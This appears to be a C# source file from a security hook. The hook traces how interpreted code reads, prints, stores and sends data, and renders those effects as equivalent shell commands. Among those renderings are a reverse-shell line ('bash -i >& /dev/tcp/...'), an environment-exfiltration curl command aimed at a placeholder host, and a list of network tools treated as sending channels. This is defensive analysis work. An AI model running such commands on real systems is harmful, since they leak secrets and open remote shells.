namespace Septim.Hooks.Shell.Code;

/// <summary>What becomes of values that come from files, the environment or the input.</summary>
internal sealed partial class CodeEffects
{
    /// <summary>Stands for the interpreter's standard input where a file's path would.</summary>
    public static readonly CodeValue StandardInput = new() { Name = "<stdin>" };

    private readonly List<CodeValue> _reads = [];
    private readonly HashSet<string?> _known = [];
    private readonly HashSet<string?> _sent = [];
    private bool _showsFree;

    /// <summary>The language's values are followed to where they are printed, kept or sent.</summary>
    public bool FollowsValues { get; set; }

    /// <summary>Whoever reads a file prints it, as far as anybody knows.</summary>
    public bool ReadsShow { get; set; } = true;

    /// <summary>A file's content becomes a value.</summary>
    public CodeValue Read(CodeValue path, int start, int end, CodeTraits shape = CodeTraits.None)
    {
        if (path.Text is "/dev/stdin" or "php://stdin" || path is { Text: "0", Traits: 0 }) return ReadInput();
        var located = Located(path);
        if (!IsMuted && (path.Text is not null || path.Is(CodeTraits.AnyOf)))
        {
            if (path.Text is null || _known.Add(located.Text)) _reads.Add(located);
            if (ReadsShow) Do(start, end, CodeValue.Of("cat"), located);
        }
        return new CodeValue { File = located, Traits = shape };
    }

    /// <summary>The interpreter's input becomes a value.</summary>
    public CodeValue ReadInput()
    {
        if (!IsMuted && _known.Add(StandardInput.Name)) _reads.Add(StandardInput);
        return new CodeValue { File = StandardInput };
    }

    /// <summary>The value is put before the reader.</summary>
    public void Show(CodeValue value, int start, int end)
    {
        if (IsMuted || !FollowsValues) return;
        var all = CodeFlow.Origins(value);
        if (!all.HasOrigin) return;
        if (all.Is(CodeTraits.Free)) _showsFree = true;
        if (all.Is(CodeTraits.Environment) && !all.Is(CodeTraits.Names)) Do(start, end, CodeValue.Of("env"));
        if (all.File is { } file) Print(file, all.Is(CodeTraits.Names), start, end);
        if (all.Variables is not { } names) return;
        foreach (var range in names.AsSpan().Split(' ')) Do(start, end, CodeValue.Of("echo"), CodeValue.Of(text.Variable(names[range])));
    }

    /// <summary>The value goes into a file: bytes of another file are copied there.</summary>
    public void Store(CodeValue value, CodeValue path, int start, int end)
    {
        if (IsMuted || !FollowsValues || path.Text is not { } target) return;
        var all = CodeFlow.Origins(value);
        if (all.Is(CodeTraits.Network)) Do(start, end, CodeValue.Of("curl"), CodeValue.Of("-o"), Located(path), all.Url?.Text is null ? CodeValue.Of("https://host.invalid/") : all.Url);
        if (all.File is not { } file || (all.Traits & (CodeTraits.Names | CodeTraits.Field)) != 0) return;
        var to = Located(path).Text ?? target;
        foreach (var from in file.Is(CodeTraits.AnyOf) ? file.Items! : [file])
        {
            if (from.Text is { } known && known != to) Do(start, end, CodeValue.Of("dd"), CodeValue.Of("if=" + known), CodeValue.Of("of=" + to));
        }
    }

    /// <summary>A text goes into a file through its handle.</summary>
    public void Put(CodeValue handle, CodeValue data, CodeValue origins, int start, int end)
    {
        if (IsMuted || !FollowsValues || handle.Target is not { } path) return;
        Store(origins, path, start, end);
        if (data.Text is not null && path.Text is { } target && !handle.Is(CodeTraits.Appends)) Write(path, !_put.Add(target), start, end, data);
    }

    private readonly HashSet<string> _put = [];

    /// <summary>The text is the input of a program that the code started.</summary>
    public void Feed(CodeValue[] program, CodeValue input, int start, int end)
    {
        if (input.Text is null && input.Is(CodeTraits.Network) && program is [{ Text: { } reader }, ..] && IsShell(ShellPath.Leaf(reader)) && !IsMuted) Remote(input, start, end);
        if (program.Length == 0 || input.Text is not { Length: > 0 } fed || (fed.Length == 1 && CodeText.HasMark(fed)) || !Takes()) return;
        Add(new CodeCall(false, [.. Array.ConvertAll(program, ToWord)], text.Shown(start, end)) { Input = text.ToWord(fed) }, start);
    }

    /// <summary>Words that carry a value to a program which prints or sends it.</summary>
    private void Carried(ReadOnlySpan<CodeValue> words, int start, int end)
    {
        if (IsMuted || !FollowsValues || words.Length < 2 || words[0].Text is not { } program) return;
        for (var i = 1; i < words.Length; i++)
        {
            if (!words[i].HasOrigin) continue;
            switch (ShellPath.Leaf(program))
            {
                case "echo" or "printf" or "logger" or "wall" or "notify-send" or "say" or "osascript": Show(words[i], start, end); break;
                case "curl" or "wget" or "nc" or "ncat" or "http" when words[i].File is { } file: Upload(file, CodeValue.Unknown, start, end); break;
                case "curl" or "wget" or "nc" or "ncat" or "http" when CodeFlow.IsEnvironment(words[i]): AddShell("env | curl --data-binary @- https://host.invalid/", start, end); break;
            }
        }
    }

    private void Print(CodeValue file, bool isNames, int start, int end)
    {
        if (file.Is(CodeTraits.AnyOf) && file.Items is { } files)
        {
            foreach (var one in files) Print(one, isNames, start, end);
            return;
        }
        if (!Takes()) return;
        var isInput = ReferenceEquals(file, StandardInput);
        var words = new List<Word> { Word.Of(isNames ? "cut" : "cat") };
        if (isNames) words.AddRange([Word.Of("-d="), Word.Of("-f1")]);
        if (!isInput) words.Add(ToWord(file));
        Add(new CodeCall(false, [.. words], text.Shown(start, end)) { ReadsInput = isInput }, start);
    }

    /// <summary>What the whole of the code amounts to.</summary>
    public void Finish(int length)
    {
        if (_isOpenToNetwork && _startsShell) AddShell("bash -i >& /dev/tcp/host.invalid/4444 0>&1", 0, length);
        if (_showsFree)
        {
            foreach (var file in _reads) Print(file, false, 0, length);
        }
        if (_sentTo is null && !_isOpenToNetwork) return;
        foreach (var file in _reads)
        {
            if (!_sent.Contains(file.Text) && !ReferenceEquals(file, StandardInput)) Upload(file, _sentTo ?? CodeValue.Unknown, 0, length);
        }
    }
}
